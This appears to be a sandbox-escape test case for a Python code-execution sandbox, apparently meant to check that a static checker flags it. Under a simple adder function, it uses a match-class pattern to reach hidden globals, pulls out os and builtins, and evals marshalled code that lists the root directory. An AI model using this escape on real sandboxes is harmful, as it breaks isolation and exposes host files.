# expect: static
# attack: marshal a code object, after a match class pattern reaches the worker's globals through a module proxy's method
import json


def main(**a):
    if "a" not in a or "b" not in a:
        raise ValueError("a and b are required")
    match json:
        case object(__getattr__=object(__func__=object(__globals__=G))):
            pass
    OS, B, SYS = G["os"], G["builtins"], G["sys"]
    leak = None
    parent = a.get("parent_pid", OS.getppid())
    M = SYS.modules["marshal"]
    leak = B.eval(M.loads(M.dumps(B.compile("__import__('os').listdir('/')", "x", "eval"))), {"__builtins__": B})
    return {"result": a["a"] + a["b"], "leak": str(leak)[:4000]}
